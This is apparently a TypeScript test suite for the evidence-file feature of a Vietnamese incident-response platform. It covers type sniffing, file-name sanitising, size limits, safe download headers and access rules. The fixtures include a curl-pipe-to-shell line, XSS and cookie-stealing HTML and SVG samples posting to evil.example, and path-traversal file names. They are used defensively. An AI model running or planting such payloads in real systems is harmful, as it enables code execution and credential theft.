import crypto from 'node:crypto'
import fs from 'node:fs'
import os from 'node:os'
import path from 'node:path'
import { and, eq } from 'drizzle-orm'
import { afterAll, beforeAll, describe, expect, test } from 'vitest'
import { accessGrants, auditLog, incidentAttachments, incidents, incidentTimeline } from '../../db/schema/index.ts'
import {
  addAttachment,
  contentDisposition,
  displayFileName,
  MAX_FILE_NAME_LENGTH,
  openAttachment,
  servedContentType,
} from '../../app/incidents/attachments.server.ts'
import { ContentSniffer, SNIFFED_TYPES, sniffBytes } from '../../app/incidents/sniff.ts'
import type { TlpLabel } from '../../app/policy/actor.ts'
import { createHarness, createTestApp, type Harness, type TestApp } from '../support/harness.ts'
import { makeCluster, makeOrganisation, makeUser, TEST_PASSWORD } from '../support/factories.ts'

// Evidence attachments (issue 4): stored under generated names with their SHA-256, the size
// limit enforced before buffering (413), the type sniffed, served only as a download to those
// who may see the incident. Incidents are inserted as rows here, so these tests depend only
// on the schema and the policy, not on the filing pages.

const MAX_BYTES = 8192
const tmpRoot = fs.mkdtempSync(path.join(os.tmpdir(), 'csirtnet-attachments-'))
const dir = path.join(tmpRoot, 'files')

let h: Harness
let web: TestApp
const org: Record<string, string> = {}
const PEOPLE = ['creator', 'ownerResponder', 'leadResponder', 'siblingResponder', 'otherClusterResponder', 'analyst', 'sysadmin'] as const
type Person = (typeof PEOPLE)[number]
const user = {} as Record<Person, { id: string; email: string }>
const cookie = {} as Record<Person, string>

beforeAll(async () => {
  h = await createHarness({ env: { ATTACHMENTS_DIR: dir, ATTACHMENT_MAX_BYTES: String(MAX_BYTES) } })
  web = await createTestApp(h)
  const db = h.services.db
  org.cert = h.orgIds.get('vncert')!
  for (const name of ['owner', 'lead', 'sibling', 'other', 'otherLead']) org[name] = (await makeOrganisation(db)).id
  await makeCluster(db, { members: [org.owner!, org.lead!, org.sibling!], lead: org.lead })
  await makeCluster(db, { members: [org.other!, org.otherLead!], lead: org.otherLead })
  const spec: Record<Person, [string, 'reporter' | 'responder' | 'cert_analyst' | 'sysadmin']> = {
    creator: [org.owner!, 'reporter'],
    ownerResponder: [org.owner!, 'responder'],
    leadResponder: [org.lead!, 'responder'],
    siblingResponder: [org.sibling!, 'responder'],
    otherClusterResponder: [org.other!, 'responder'],
    analyst: [org.cert, 'cert_analyst'],
    sysadmin: [org.cert, 'sysadmin'],
  }
  for (const person of PEOPLE) {
    const [orgId, role] = spec[person]
    const u = await makeUser(db, orgId, role)
    user[person] = { id: u.id, email: u.email }
    cookie[person] = await web.signIn(u.email, TEST_PASSWORD)
  }
})
afterAll(async () => {
  await h.close()
  fs.rmSync(tmpRoot, { recursive: true, force: true })
})

// ---------------------------------------------------------------------------------------------
// Fixtures

let sequence = 0
async function makeIncident(opts: { tlp: TlpLabel; status?: 'new' | 'investigating' | 'closed'; escalated?: boolean; namedRecipients?: string[] }) {
  const db = h.services.db
  sequence++
  const [row] = await db
    .insert(incidents)
    .values({
      reference: `IR-2026-${String(900000 + sequence)}-${crypto.randomBytes(2).toString('hex')}`,
      status: opts.status ?? 'new',
      reportingOrganisationId: org.owner!,
      createdBy: user.creator.id,
      title: 'Mã độc mã hóa dữ liệu trên máy chủ cổng thông tin',
      category: 'ransomware',
      tlp: opts.tlp,
      submittedAt: new Date(),
    })
    .returning()
  if (opts.escalated) {
    await db.insert(accessGrants).values({ objectType: 'incident', objectId: row!.id, granteeOrganisationId: org.cert, reason: 'escalation', grantedBy: user.ownerResponder.id })
  }
  for (const userId of opts.namedRecipients ?? []) {
    await db.insert(accessGrants).values({ objectType: 'incident', objectId: row!.id, granteeUserId: userId, reason: 'named recipient', grantedBy: user.creator.id })
  }
  return row!
}

const bytesOf = (text: string) => new Uint8Array(new TextEncoder().encode(text))
const sha256 = (bytes: Uint8Array) => crypto.createHash('sha256').update(bytes).digest('hex')
const filesOnDisk = () => (fs.existsSync(dir) ? fs.readdirSync(dir).sort() : [])

function uploadBody(fileName: string, bytes: Uint8Array<ArrayBuffer>, type = 'application/octet-stream') {
  const form = new FormData()
  form.append('file', new Blob([bytes], { type }), fileName)
  return form
}

const upload = (incidentId: string, person: Person, fileName: string, bytes: Uint8Array<ArrayBuffer>, type?: string) =>
  web.request(`/incidents/${incidentId}/attachments`, { method: 'POST', body: uploadBody(fileName, bytes, type), cookie: cookie[person] })
const download = (incidentId: string, attachmentId: string, person: Person) =>
  web.request(`/incidents/${incidentId}/attachments/${attachmentId}`, { cookie: cookie[person] })

async function attachAs(person: Person, incidentId: string, fileName: string, bytes: Uint8Array<ArrayBuffer>) {
  return addAttachment(await h.acting(user[person].id), incidentId, new File([bytes], fileName))
}

async function attachmentRows(incidentId: string) {
  return h.services.db.select().from(incidentAttachments).where(eq(incidentAttachments.incidentId, incidentId))
}

async function auditFor(action: string, incidentId: string) {
  return h.services.db
    .select()
    .from(auditLog)
    .where(and(eq(auditLog.action, action), eq(auditLog.objectId, incidentId)))
}

// A PNG signature followed by noise: binary content whose every byte must come back unchanged.
function pngLike(size: number) {
  const bytes = crypto.randomBytes(size)
  bytes.set([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a], 0)
  return new Uint8Array(bytes)
}

// ---------------------------------------------------------------------------------------------

describe('recognising what a file is from its bytes', () => {
  const cases: [string, Uint8Array, string, string][] = [
    ['a PDF report', bytesOf('%PDF-1.7\n%âãÏÓ\n1 0 obj'), 'bao-cao.pdf', SNIFFED_TYPES.pdf],
    ['a PNG screenshot', pngLike(64), 'x.png', SNIFFED_TYPES.png],
    ['a JPEG photo', new Uint8Array([0xff, 0xd8, 0xff, 0xe0, 0, 0x10, 0x4a, 0x46]), 'x.jpg', SNIFFED_TYPES.jpeg],
    ['a GIF', bytesOf('GIF89a\u0001\u0000'), 'x.gif', SNIFFED_TYPES.gif],
    ['a ZIP archive of logs', new Uint8Array([0x50, 0x4b, 0x03, 0x04, 0x14, 0, 0, 0, ...bytesOf('logs/auth.log')]), 'logs.zip', SNIFFED_TYPES.zip],
    ['a Word document', new Uint8Array([0x50, 0x4b, 0x03, 0x04, 0x14, 0, ...bytesOf('[Content_Types].xml...word/document.xml')]), 'bien-ban.docx', SNIFFED_TYPES.docx],
    ['an Excel workbook', new Uint8Array([0x50, 0x4b, 0x03, 0x04, 0x14, 0, ...bytesOf('[Content_Types].xml...xl/workbook.xml')]), 'ioc.xlsx', SNIFFED_TYPES.xlsx],
    ['a gzip file', new Uint8Array([0x1f, 0x8b, 0x08, 0, 0, 0, 0, 0]), 'access.log.gz', SNIFFED_TYPES.gzip],
    ['a 7z archive of samples', new Uint8Array([0x37, 0x7a, 0xbc, 0xaf, 0x27, 0x1c, 0, 4]), 'samples.7z', SNIFFED_TYPES.sevenZip],
    ['a pcap capture', new Uint8Array([0xd4, 0xc3, 0xb2, 0xa1, 2, 0, 4, 0]), 'c2.pcap', SNIFFED_TYPES.pcap],
    ['a pcapng capture', new Uint8Array([0x0a, 0x0d, 0x0d, 0x0a, 0x1c, 0, 0, 0]), 'c2.pcapng', SNIFFED_TYPES.pcapng],
    ['a Windows event log', new Uint8Array([...bytesOf('ElfFile'), 0, 0, 0, 0, 0]), 'Security.evtx', SNIFFED_TYPES.evtx],
    ['a Vietnamese text log', bytesOf('2026-03-01 10:00 Đăng nhập thất bại từ 203.0.113.5\n'), 'auth.log', SNIFFED_TYPES.text],
    ['a CSV export', bytesOf('ip,ghi chú\n203.0.113.5,máy chủ C2\n'), 'ioc.csv', SNIFFED_TYPES.csv],
    ['a JSON export', bytesOf('  {"indicator": "203.0.113.5", "ghiChú": "C2"}\n'), 'ioc.json', SNIFFED_TYPES.json],
    ['an HTML phishing page named as a picture', bytesOf('<!DOCTYPE html><html><script>alert(1)</script></html>'), 'anh.png', SNIFFED_TYPES.html],
    ['an SVG with script', bytesOf('<?xml version="1.0"?>\n<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'), 'logo.png', SNIFFED_TYPES.svg],
    ['an XML document', bytesOf('<?xml version="1.0"?><Events><Event/></Events>'), 'sysmon.xml', SNIFFED_TYPES.xml],
    ['a Windows executable named as a PDF', new Uint8Array([0x4d, 0x5a, 0x90, 0, 3, 0, 0, 0]), 'hoa-don.pdf', SNIFFED_TYPES.pe],
    ['a Linux executable', new Uint8Array([0x7f, 0x45, 0x4c, 0x46, 2, 1, 1, 0]), 'kworker', SNIFFED_TYPES.elf],
    ['a shell script', bytesOf('#!/bin/sh\ncurl http://203.0.113.5/x | sh\n'), 'install.txt', SNIFFED_TYPES.script],
    ['text with a NUL byte', new Uint8Array([0x61, 0x62, 0x00, 0x63]), 'x.txt', SNIFFED_TYPES.unknown],
    ['bytes that are not UTF-8', new Uint8Array([0x61, 0xc3, 0x28, 0x62]), 'x.txt', SNIFFED_TYPES.unknown],
  ]
  test.each(cases)('%s is recognised from its content', (_label, bytes, fileName, expected) => {
    expect(sniffBytes(bytes, fileName)).toBe(expected)
  })

  test('a multi-byte character split across chunks is still text, a truncated one is not', () => {
    const bytes = bytesOf('Sự cố mã độc\n')
    const split = bytes.indexOf(0xbb) // inside "ự"
    const sniffer = new ContentSniffer()
    sniffer.feed(bytes.subarray(0, split))
    sniffer.feed(bytes.subarray(split))
    expect(sniffer.result('x.log')).toBe(SNIFFED_TYPES.text)
    expect(sniffBytes(bytes.subarray(0, split), 'x.log')).toBe(SNIFFED_TYPES.unknown)
  })

  test('only types a browser cannot execute keep their own Content-Type', () => {
    expect(servedContentType(SNIFFED_TYPES.pdf)).toBe('application/pdf')
    expect(servedContentType(SNIFFED_TYPES.png)).toBe('image/png')
    expect(servedContentType(SNIFFED_TYPES.text)).toBe('text/plain; charset=utf-8')
    for (const risky of [SNIFFED_TYPES.html, SNIFFED_TYPES.svg, SNIFFED_TYPES.xml, SNIFFED_TYPES.pe, SNIFFED_TYPES.json, SNIFFED_TYPES.script, 'text/html; charset=utf-8']) {
      expect(servedContentType(risky)).toBe('application/octet-stream')
    }
  })
})

describe('file names', () => {
  test('path components, control and bidi-override characters are removed from the displayed name', () => {
    expect(displayFileName('../../etc/passwd')).toBe('passwd')
    expect(displayFileName('..\\..\\Windows\\win.ini')).toBe('win.ini')
    expect(displayFileName('nhat\u0000ky\r\n.log')).toBe('nhatky.log')
    expect(displayFileName('hoa-don\u202Efdp.exe')).toBe('hoa-donfdp.exe')
    expect(displayFileName('..')).toBe('attachment')
    expect(displayFileName('   ')).toBe('attachment')
    // Decomposed Vietnamese (as macOS sends it) is stored composed.
    expect(displayFileName('Ba\u0301o ca\u0301o.pdf')).toBe('Báo cáo.pdf')
  })

  test('a very long name is cut to the maximum length and keeps its extension', () => {
    const name = displayFileName(`${'ả'.repeat(500)}.pcapng`)
    expect(Array.from(name)).toHaveLength(MAX_FILE_NAME_LENGTH)
    expect(name.endsWith('.pcapng')).toBe(true)
  })

  test('the download name of a Vietnamese file is RFC 8187 encoded with an ASCII fallback', () => {
    expect(contentDisposition('Báo cáo sự cố (bản 2).pdf')).toBe(
      `attachment; filename="Bao cao su co (ban 2).pdf"; filename*=UTF-8''B%C3%A1o%20c%C3%A1o%20s%E1%BB%B1%20c%E1%BB%91%20%28b%E1%BA%A3n%202%29.pdf`,
    )
    expect(contentDisposition('Đà Nẵng "x".txt')).toBe(`attachment; filename="Da Nang _x_.txt"; filename*=UTF-8''%C4%90%C3%A0%20N%E1%BA%B5ng%20%22x%22.txt`)
  })
})

describe('uploading and downloading through the pages', () => {
  test('a file comes back byte for byte with its SHA-256, and both acts are recorded', async () => {
    const incident = await makeIncident({ tlp: 'AMBER' })
    const bytes = pngLike(5000)
    const res = await upload(incident.id, 'ownerResponder', 'ảnh chụp màn hình.png', bytes, 'image/png')
    expect(res.status).toBe(302)
    expect(res.headers.get('location')).toBe(`/incidents/${incident.id}/attachments?done=added`)

    const [row] = await attachmentRows(incident.id)
    expect(row).toMatchObject({ fileName: 'ảnh chụp màn hình.png', contentType: 'image/png', size: 5000, sha256: sha256(bytes), uploadedBy: user.ownerResponder.id })
    expect(row!.storageKey).toMatch(/^[0-9a-f-]{36}$/)
    expect(fs.readFileSync(path.join(dir, row!.storageKey))).toEqual(Buffer.from(bytes))
    expect(fs.statSync(dir).mode & 0o777).toBe(0o700)
    expect(filesOnDisk().some((f) => f.endsWith('.part'))).toBe(false)

    const got = await download(incident.id, row!.id, 'leadResponder')
    expect(got.status).toBe(200)
    const body = new Uint8Array(await got.arrayBuffer())
    expect(sha256(body)).toBe(sha256(bytes))
    expect(Buffer.from(body)).toEqual(Buffer.from(bytes))
    expect(got.headers.get('content-type')).toBe('image/png')
    expect(got.headers.get('content-disposition')).toBe(
      `attachment; filename="anh chup man hinh.png"; filename*=UTF-8''%E1%BA%A3nh%20ch%E1%BB%A5p%20m%C3%A0n%20h%C3%ACnh.png`,
    )
    const digest = Buffer.from(sha256(bytes), 'hex').toString('base64')
    expect(got.headers.get('repr-digest')).toBe(`sha-256=:${digest}:`)
    expect(got.headers.get('digest')).toBe(`sha-256=${digest}`)
    expect(got.headers.get('cache-control')).toBe('no-store')
    expect(got.headers.get('x-content-type-options')).toBe('nosniff')

    const [timeline] = await h.services.db.select().from(incidentTimeline).where(eq(incidentTimeline.incidentId, incident.id))
    expect(timeline).toMatchObject({ kind: 'attachment_added', actorUserId: user.ownerResponder.id, internalToOrganisationId: null })
    expect(timeline!.data).toMatchObject({ attachmentId: row!.id, fileName: 'ảnh chụp màn hình.png', size: 5000, sha256: sha256(bytes) })
    const [added] = await auditFor('incident.attachment_added', incident.id)
    expect(added).toMatchObject({ actorUserId: user.ownerResponder.id, objectType: 'incident', objectOrganisationId: org.owner })
    const downloads = await auditFor('incident.attachment_downloaded', incident.id)
    expect(downloads).toHaveLength(1)
    expect(downloads[0]).toMatchObject({ actorUserId: user.leadResponder.id, objectOrganisationId: org.owner })
    expect(downloads[0]!.details).toMatchObject({ attachmentId: row!.id, sha256: sha256(bytes) })
  })

  test('the page lists the file with its shortened hash, full hash in the title, uploader and size', async () => {
    const incident = await makeIncident({ tlp: 'AMBER' })
    const bytes = bytesOf('2026-03-01 10:00:01 sshd: Failed password for root from 203.0.113.5\n')
    const added = await attachAs('ownerResponder', incident.id, 'nhật ký đăng nhập.log', bytes)
    const html = await (await web.request(`/incidents/${incident.id}/attachments?done=added`, { cookie: cookie.leadResponder })).text()
    expect(html).toContain('nhật ký đăng nhập.log')
    expect(html).toContain(`href="/incidents/${incident.id}/attachments/${added.id}"`)
    expect(html).toContain(`${sha256(bytes).slice(0, 12)}…`)
    expect(html).toContain(`title="SHA-256 đầy đủ: ${sha256(bytes)}"`)
    expect(html).toContain('text/plain')
    expect(html).toContain('Test responder')
    expect(html).toContain('Đã thêm tệp bằng chứng.')
    expect(html).toMatch(/<form method="post" action="\/incidents\/[0-9a-f-]+\/attachments" encType="multipart\/form-data"/i)
    expect(html).toContain('type="file"')
  })

  test('the page speaks English to an English reader', async () => {
    const incident = await makeIncident({ tlp: 'AMBER' })
    const html = await (await web.request(`/incidents/${incident.id}/attachments`, { cookie: cookie.ownerResponder, headers: { 'accept-language': 'en' } })).text()
    expect(html).toContain('Evidence files')
    expect(html).toContain('This incident has no evidence files yet.')
    expect(html).toContain('One file, at most 8 kB.')
  })

  test('an HTML page is kept as evidence but served only as a sandboxed download, never as HTML', async () => {
    const incident = await makeIncident({ tlp: 'AMBER' })
    const page = bytesOf('<!doctype html><html><body><form action="https://evil.example/"><script>alert(document.cookie)</script></form></body></html>')
    expect((await upload(incident.id, 'ownerResponder', 'trang-lừa-đảo.png', page, 'image/png')).status).toBe(302)
    const [row] = await attachmentRows(incident.id)
    expect(row!.contentType).toBe('text/html')
    const got = await download(incident.id, row!.id, 'ownerResponder')
    expect(got.status).toBe(200)
    expect(got.headers.get('content-type')).toBe('application/octet-stream')
    expect(got.headers.get('content-disposition')).toMatch(/^attachment; /)
    expect(got.headers.get('x-content-type-options')).toBe('nosniff')
    expect(got.headers.get('content-security-policy')).toBe("sandbox; default-src 'none'")
    expect(Buffer.from(await got.arrayBuffer())).toEqual(Buffer.from(page))
  })

  test('an SVG is served the same way', async () => {
    const incident = await makeIncident({ tlp: 'AMBER' })
    const svg = bytesOf('<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"></svg>')
    const added = await attachAs('ownerResponder', incident.id, 'logo.svg', svg)
    expect(added.contentType).toBe('image/svg+xml')
    const got = await download(incident.id, added.id, 'ownerResponder')
    expect(got.headers.get('content-type')).toBe('application/octet-stream')
    expect(got.headers.get('content-security-policy')).toBe("sandbox; default-src 'none'")
  })

  test('a file over the limit is refused with 413 and a clear message, and nothing is stored', async () => {
    const incident = await makeIncident({ tlp: 'AMBER' })
    const before = filesOnDisk()
    const res = await upload(incident.id, 'ownerResponder', 'qua-lon.bin', new Uint8Array(MAX_BYTES + 1))
    expect(res.status).toBe(413)
    const html = await res.text()
    expect(html).toContain('Tệp quá lớn: giới hạn là 8 kB. Tệp chưa được lưu.')
    expect(await attachmentRows(incident.id)).toEqual([])
    expect(filesOnDisk()).toEqual(before)
    expect(await auditFor('incident.attachment_added', incident.id)).toEqual([])
  })

  test('a file of exactly the limit is accepted', async () => {
    const incident = await makeIncident({ tlp: 'AMBER' })
    expect((await upload(incident.id, 'ownerResponder', 'vua-du.bin', new Uint8Array(MAX_BYTES).fill(7))).status).toBe(302)
    expect((await attachmentRows(incident.id))[0]!.size).toBe(MAX_BYTES)
  })

  test('a declared Content-Length over the limit is refused with 413 before the body is read', async () => {
    const incident = await makeIncident({ tlp: 'AMBER' })
    let pulled = false
    const body = new ReadableStream<Uint8Array>(
      {
        pull(controller) {
          pulled = true
          controller.enqueue(new Uint8Array(1024))
        },
      },
      { highWaterMark: 0 },
    )
    const res = await web.request(`/incidents/${incident.id}/attachments`, {
      method: 'POST',
      body,
      duplex: 'half',
      cookie: cookie.ownerResponder,
      headers: { 'content-type': 'multipart/form-data; boundary=----x', 'content-length': String(10 * 1024 * 1024) },
    } as RequestInit & { cookie: string })
    expect(res.status).toBe(413)
    expect(res.headers.get('connection')).toBe('close')
    expect(pulled).toBe(false)
    expect(await attachmentRows(incident.id)).toEqual([])
  })

  test('an empty file and a form without a file are refused with a message, not stored', async () => {
    const incident = await makeIncident({ tlp: 'AMBER' })
    const empty = await upload(incident.id, 'ownerResponder', 'rong.txt', new Uint8Array(0))
    expect(empty.status).toBe(400)
    expect(await empty.text()).toContain('Tệp rỗng (0 byte) không được lưu.')
    const none = new FormData()
    none.append('file', new Blob([]), '')
    const missing = await web.request(`/incidents/${incident.id}/attachments`, { method: 'POST', body: none, cookie: cookie.ownerResponder })
    expect(missing.status).toBe(400)
    expect(await missing.text()).toContain('Hãy chọn một tệp.')
    expect(await attachmentRows(incident.id)).toEqual([])
    expect(filesOnDisk().some((f) => f.endsWith('.part'))).toBe(false)
  })

  test('a malformed multipart body is a 400, not a 500', async () => {
    const incident = await makeIncident({ tlp: 'AMBER' })
    const res = await web.request(`/incidents/${incident.id}/attachments`, {
      method: 'POST',
      body: '------x\r\nContent-Disposition: form-data; name="file"; filename="a.txt"\r\n\r\nno closing boundary',
      cookie: cookie.ownerResponder,
      headers: { 'content-type': 'multipart/form-data; boundary=----x' },
    })
    expect(res.status).toBe(400)
    expect(await res.text()).toContain('Không đọc được dữ liệu gửi lên.')
    const plain = await web.postForm(`/incidents/${incident.id}/attachments`, { file: 'not a file' }, cookie.ownerResponder)
    expect(plain.status).toBe(400)
    expect(filesOnDisk().some((f) => f.endsWith('.part'))).toBe(false)
  })

  test('a path in the file name is harmless: the file is stored under a generated name inside the directory', async () => {
    const incident = await makeIncident({ tlp: 'AMBER' })
    // Written by hand: FormData would not send a path, an attacker's client will.
    const boundary = '----csirt'
    const raw = [
      `--${boundary}`,
      'Content-Disposition: form-data; name="file"; filename="../../etc/passwd"',
      'Content-Type: text/plain',
      '',
      'root:x:0:0:root:/root:/bin/bash',
      `--${boundary}--`,
      '',
    ].join('\r\n')
    const res = await web.request(`/incidents/${incident.id}/attachments`, {
      method: 'POST',
      body: raw,
      cookie: cookie.ownerResponder,
      headers: { 'content-type': `multipart/form-data; boundary=${boundary}` },
    })
    expect(res.status).toBe(302)
    const [row] = await attachmentRows(incident.id)
    expect(row!.fileName).toBe('passwd')
    expect(fs.existsSync(path.join(dir, row!.storageKey))).toBe(true)
    expect(fs.existsSync(path.join(tmpRoot, 'etc'))).toBe(false)
    expect(fs.existsSync(path.join(dir, 'passwd'))).toBe(false)
    // The same through the domain function, which does not rely on the multipart parser.
    const direct = await attachAs('ownerResponder', incident.id, '..\\..\\..\\Windows\\System32\\drivers\\etc\\hosts', bytesOf('127.0.0.1 localhost\n'))
    expect(direct.fileName).toBe('hosts')
    expect(filesOnDisk().every((f) => /^[0-9a-f-]{36}$/.test(f))).toBe(true)
  })

  test('an attachment id of another incident, an unknown id and a malformed id answer 404', async () => {
    const first = await makeIncident({ tlp: 'AMBER' })
    const second = await makeIncident({ tlp: 'AMBER' })
    const ofFirst = await attachAs('ownerResponder', first.id, 'a.txt', bytesOf('a'))
    const crossed = await download(second.id, ofFirst.id, 'ownerResponder')
    expect(crossed.status).toBe(404)
    expect(await crossed.text()).toBe('Không tìm thấy trang hoặc đối tượng.')
    expect((await download(first.id, crypto.randomUUID(), 'ownerResponder')).status).toBe(404)
    expect((await download(first.id, 'not-a-uuid', 'ownerResponder')).status).toBe(404)
    expect((await download(crypto.randomUUID(), ofFirst.id, 'ownerResponder')).status).toBe(404)
    expect((await download(first.id, ofFirst.id, 'ownerResponder')).status).toBe(200)
    const owner = await h.acting(user.ownerResponder.id)
    await expect(openAttachment(owner, second.id, ofFirst.id)).rejects.toMatchObject({ code: 'not_found' })
  })

  test('signed-out visitors are sent to sign in and get no file', async () => {
    const incident = await makeIncident({ tlp: 'CLEAR' })
    const added = await attachAs('ownerResponder', incident.id, 'a.txt', bytesOf('a'))
    const res = await web.request(`/incidents/${incident.id}/attachments/${added.id}`)
    expect(res.status).toBe(302)
    expect(res.headers.get('location')).toMatch(/^\/login\?redirectTo=/)
  })
})

describe('who may download and upload', () => {
  // Per docs/decisions/004-visibility-rules.md: "escalated" adds the national CERT's
  // organisation grant. A denial is always a 404: an incident one may not see does not exist.
  const CASES = ['AMBER', 'AMBER escalated', 'AMBER+STRICT', 'AMBER+STRICT escalated', 'RED', 'RED escalated'] as const
  type Case = (typeof CASES)[number]
  const ALLOWED: Record<Person, Case[]> = {
    creator: [...CASES],
    ownerResponder: ['AMBER', 'AMBER escalated', 'AMBER+STRICT', 'AMBER+STRICT escalated'],
    leadResponder: ['AMBER', 'AMBER escalated'],
    siblingResponder: [],
    otherClusterResponder: [],
    analyst: ['AMBER', 'AMBER escalated', 'AMBER+STRICT escalated'],
    // A sysadmin reads content only as a member of its own organisation (the national CERT),
    // so it gets what the escalation grants that organisation, and nothing by its role.
    sysadmin: ['AMBER escalated', 'AMBER+STRICT escalated'],
  }
  const fixtures = {} as Record<Case, { incidentId: string; attachmentId: string }>

  beforeAll(async () => {
    for (const c of CASES) {
      const [tlp, escalated] = c.split(' ') as [TlpLabel, string | undefined]
      const incident = await makeIncident({ tlp, escalated: escalated === 'escalated' })
      const added = await attachAs('creator', incident.id, 'mẫu-mã-độc.7z', new Uint8Array([0x37, 0x7a, 0xbc, 0xaf, 0x27, 0x1c, 0, 4, 1, 2, 3]))
      fixtures[c] = { incidentId: incident.id, attachmentId: added.id }
    }
  })

  for (const person of PEOPLE) {
    for (const c of CASES) {
      const allowed = ALLOWED[person].includes(c)
      test(`${person} ${allowed ? 'may' : 'may not'} download from or upload to a ${c} incident`, async () => {
        const { incidentId, attachmentId } = fixtures[c]
        const got = await download(incidentId, attachmentId, person)
        expect(got.status).toBe(allowed ? 200 : 404)
        if (allowed) expect(sha256(new Uint8Array(await got.arrayBuffer()))).toBe(sha256(new Uint8Array([0x37, 0x7a, 0xbc, 0xaf, 0x27, 0x1c, 0, 4, 1, 2, 3])))
        const page = await web.request(`/incidents/${incidentId}/attachments`, { cookie: cookie[person] })
        expect(page.status).toBe(allowed ? 200 : 404)
        const before = (await attachmentRows(incidentId)).length
        const res = await upload(incidentId, person, `${person}.txt`, bytesOf(`from ${person}\n`))
        expect(res.status).toBe(allowed ? 302 : 404)
        expect(await attachmentRows(incidentId)).toHaveLength(allowed ? before + 1 : before)
      })
    }
  }

  test('a denied download writes no audit entry, an allowed one writes exactly one', async () => {
    const incident = await makeIncident({ tlp: 'AMBER+STRICT' })
    const added = await attachAs('creator', incident.id, 'a.txt', bytesOf('a'))
    expect((await download(incident.id, added.id, 'leadResponder')).status).toBe(404)
    expect(await auditFor('incident.attachment_downloaded', incident.id)).toEqual([])
    expect((await download(incident.id, added.id, 'ownerResponder')).status).toBe(200)
    expect(await auditFor('incident.attachment_downloaded', incident.id)).toHaveLength(1)
  })

  test('a named recipient of a RED incident may download and upload', async () => {
    const incident = await makeIncident({ tlp: 'RED', namedRecipients: [user.analyst.id] })
    const added = await attachAs('creator', incident.id, 'a.txt', bytesOf('a'))
    expect((await download(incident.id, added.id, 'analyst')).status).toBe(200)
    expect((await upload(incident.id, 'analyst', 'phan-tich.txt', bytesOf('kết quả phân tích\n'))).status).toBe(302)
    expect((await download(incident.id, added.id, 'ownerResponder')).status).toBe(404)
  })

  test('a GREEN incident: the whole network downloads, only those involved upload (403 for the others)', async () => {
    const incident = await makeIncident({ tlp: 'GREEN' })
    const added = await attachAs('creator', incident.id, 'a.txt', bytesOf('a'))
    expect((await download(incident.id, added.id, 'otherClusterResponder')).status).toBe(200)
    const page = await (await web.request(`/incidents/${incident.id}/attachments`, { cookie: cookie.otherClusterResponder })).text()
    expect(page).not.toContain('type="file"')
    expect(page).toContain('Bạn có thể xem và tải về các tệp này nhưng không thể thêm tệp mới.')
    expect((await upload(incident.id, 'otherClusterResponder', 'x.txt', bytesOf('x'))).status).toBe(403)
    expect((await upload(incident.id, 'leadResponder', 'x.txt', bytesOf('x'))).status).toBe(302)
  })

  test('a closed incident keeps its files downloadable but takes no new ones', async () => {
    const incident = await makeIncident({ tlp: 'AMBER' })
    const added = await attachAs('creator', incident.id, 'a.txt', bytesOf('a'))
    await h.services.db.update(incidents).set({ status: 'closed', closedAt: new Date() }).where(eq(incidents.id, incident.id))
    expect((await download(incident.id, added.id, 'ownerResponder')).status).toBe(200)
    expect((await upload(incident.id, 'ownerResponder', 'late.txt', bytesOf('late'))).status).toBe(403)
    await expect(attachAs('ownerResponder', incident.id, 'late.txt', bytesOf('late'))).rejects.toMatchObject({ code: 'forbidden' })
    expect(await attachmentRows(incident.id)).toHaveLength(1)
  })

  test('a refused upload leaves no file behind', async () => {
    const incident = await makeIncident({ tlp: 'AMBER+STRICT' })
    const before = filesOnDisk()
    expect((await upload(incident.id, 'siblingResponder', 'x.txt', bytesOf('x'))).status).toBe(404)
    await expect(attachAs('siblingResponder', incident.id, 'x.txt', bytesOf('x'))).rejects.toMatchObject({ code: 'not_found' })
    expect(filesOnDisk()).toEqual(before)
  })
})
